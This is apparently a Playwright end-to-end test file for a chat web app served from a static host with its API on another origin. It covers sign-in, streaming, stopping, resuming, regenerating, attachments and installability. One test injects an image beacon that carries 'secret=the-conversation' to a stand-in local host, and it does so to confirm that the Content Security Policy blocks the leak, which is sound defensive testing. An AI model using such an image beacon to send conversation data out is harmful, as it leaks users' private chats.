"""A static deploy on another origin, done as docs/deploy.md says.

``API_BASE=… make dist`` (``tools/dist.py``), ``dist/`` served by Python's plain
``http.server`` on one port, the reference server on another with ``--auth password`` and
``--allowed-origin`` naming the page's origin. The two are different origins of one site (as
``chat.example.org`` and ``api.example.org`` are), so the session cookie stays
``SameSite=Lax``. There a user signs in, chats, stops an answer, reloads mid-answer and sees it
resumed, regenerates, and sends an attachment; the page logs no console error.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import dist
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.e2e.conftest import (
    BOOT_TIMEOUT_MS,
    LiveServer,
    PageGuard,
    add_password_user,
    database,
    free_port,
    installability_errors,
    serve,
    wait_until_serving,
)
from tests.e2e.scenarios import STREAM_ROUTE, answer_of

PASSWORD = "a static host and an API"
STREAM_MS = 60_000
LONG_PROMPT = "Explain how a river forms, with a table of the five longest rivers"


@dataclass(frozen=True, slots=True)
class StaticDeploy:
    """The page's origin (a plain static host) and the API on another origin."""

    page_url: str
    api: LiveServer


@pytest.fixture(scope="module")
def deploy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StaticDeploy]:
    workdir = tmp_path_factory.mktemp("static-deploy")
    page_port = free_port()
    page_origin = f"http://127.0.0.1:{page_port}"
    db = database(str(workdir / "riacho.db"))
    add_password_user(db, "ana", PASSWORD)
    api_arguments = [
        "server",
        *("--db", db, "--auth", "password", "--allowed-origin", page_origin),
        *("--demo-token-ms", "25"),
    ]
    with serve(workdir, api_arguments) as api:
        bundle = dist.build(api.url, workdir / "dist")
        assert json.loads((bundle / "config.json").read_text()) == {"apiBase": api.url}
        with _static_host(bundle, page_port, workdir / "static-host.log"):
            yield StaticDeploy(page_origin + "/", api)


@contextmanager
def _static_host(folder: Path, port: int, log: Path) -> Iterator[None]:
    """``python3 -m http.server PORT --directory FOLDER``: plain files, nothing else."""
    command = [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"]
    with log.open("wb") as log_file:
        process = subprocess.Popen(
            [*command, "--directory", str(folder)], stdout=log_file, stderr=subprocess.STDOUT
        )
    try:
        wait_until_serving(f"http://127.0.0.1:{port}/", process, log)
        yield
    finally:
        process.terminate()
        process.wait(timeout=10)


def _sign_in(page: Page) -> None:
    page.locator("input[name=username]").fill("ana")
    page.locator("input[name=password]").fill(PASSWORD)
    page.locator("form[name=sign-in] button[type=submit]").click()
    page.wait_for_selector("html[data-ready]", state="attached", timeout=BOOT_TIMEOUT_MS)


def _send(page: Page, prompt: str) -> str:
    """Send ``prompt``; the run id the page made for it."""
    with page.expect_request(STREAM_ROUTE) as sent:
        page.locator("textarea[name=prompt]").fill(prompt)
        page.locator("[data-action=send]").click()
    return str(json.loads(sent.value.post_data or "{}")["runId"])


def test_a_static_deploy_on_another_origin_signs_in_chats_stops_resumes_and_uploads(
    page: Page, guard: PageGuard, deploy: StaticDeploy
) -> None:
    # NOTE: the browser's own line for the first GET /api/session (nobody signed in yet)
    guard.allow_console_error(r"status of 401")
    page.goto(deploy.page_url)
    expect(page.locator("form[name=sign-in]")).to_be_visible(timeout=BOOT_TIMEOUT_MS)
    _sign_in(page)
    expect(page.locator("#account-name")).to_have_text("ana")
    api_cookies = page.context.cookies(deploy.api.url)
    assert [(c["name"], c["sameSite"], c["httpOnly"]) for c in api_cookies] == [
        ("riacho_session", "Lax", True)
    ]

    first = answer_of(page, _send(page, "Hello from a static host"))
    expect(first).to_have_attribute("data-status", "completed", timeout=STREAM_MS)

    stopped = answer_of(page, _send(page, LONG_PROMPT))
    expect(stopped.locator(".message-text")).not_to_be_empty(timeout=STREAM_MS)
    page.locator("[data-action=stop]").click()
    expect(stopped).to_have_attribute("data-status", "cancelled", timeout=STREAM_MS)
    expect(stopped.locator("[data-cancel=confirmed]")).to_be_visible()

    run_id = _send(page, LONG_PROMPT)
    resumed = answer_of(page, run_id)
    expect(resumed.locator(".message-text")).not_to_be_empty(timeout=STREAM_MS)
    page.reload()
    page.wait_for_selector("html[data-ready]", state="attached", timeout=BOOT_TIMEOUT_MS)
    expect(resumed).to_have_attribute("data-status", "completed", timeout=STREAM_MS)
    expect(resumed.locator(".message-text")).to_contain_text("longest", timeout=STREAM_MS)

    with page.expect_request(STREAM_ROUTE) as again:
        resumed.locator("[data-action=regenerate]").click()
    retry = answer_of(page, str(json.loads(again.value.post_data or "{}")["runId"]))
    expect(retry).to_have_attribute("data-status", "completed", timeout=STREAM_MS)
    expect(retry).to_have_attribute("data-attempt", "2")

    page.locator("input[type=file][name=attachments]").set_input_files(
        files=[{"name": "notes.txt", "mimeType": "text/plain", "buffer": b"Rivers: Douro, Tejo"}]
    )
    expect(page.locator("[data-action=remove-attachment]")).to_be_visible(timeout=STREAM_MS)
    with_file = answer_of(page, _send(page, "What is in the file?"))
    expect(with_file).to_have_attribute("data-status", "completed", timeout=STREAM_MS)
    asked = page.locator("[data-role=user]").filter(has_text="What is in the file?")
    expect(asked).to_contain_text("notes.txt")
    assert not [url for url in guard.requests if url.startswith(deploy.page_url + "api/")], (
        "every API request went to the API's origin"
    )


def test_the_static_bundle_is_installable_from_its_plain_host(
    deploy: StaticDeploy, installed_profile: BrowserContext
) -> None:
    """SPEC §11: Chromium's installability check of the page served from ``make dist``."""
    page = installed_profile.new_page()
    page.goto(deploy.page_url)
    _sign_in(page)
    assert installability_errors(page) == []


LEAK_JS = """async (url) => {
    const blocked = new Promise((resolve) => document.addEventListener(
        "securitypolicyviolation", (e) => resolve([e.violatedDirective, e.blockedURI]),
        {once: true}));
    const image = document.createElement("img");
    image.src = url;
    document.body.append(image);
    return await blocked;
}"""


def test_the_static_page_enforces_the_servers_policy_with_the_api_allowed(
    page: Page, guard: PageGuard, deploy: StaticDeploy
) -> None:
    """A plain static host sends no header: the policy in the page still blocks an image a
    model could write to leak the chat (another origin, here another local port), while the
    page talks to its API (the sign-in below goes through ``connect-src``)."""
    guard.allow_console_error(r"status of 401|Content Security Policy")
    page.goto(deploy.page_url)
    expect(page.locator("form[name=sign-in]")).to_be_visible(timeout=BOOT_TIMEOUT_MS)
    _sign_in(page)
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert policy is not None and f"connect-src 'self' {deploy.api.url}" in policy
    leak = f"http://127.0.0.1:{free_port()}/leak.png?secret=the-conversation"
    failed: dict[str, str] = {}
    page.on("requestfailed", lambda request: failed.update({request.url: request.failure or ""}))
    directive, blocked = page.evaluate(LEAK_JS, leak)
    assert directive == "img-src" and blocked.startswith(leak.split("?")[0])
    expect(page.locator("img[src*='leak.png']")).to_be_attached()
    page.wait_for_function("() => true")  # NOTE: one more turn for the failed request's event
    assert failed.get(leak) == "csp", "the browser refused it: nothing left the page"
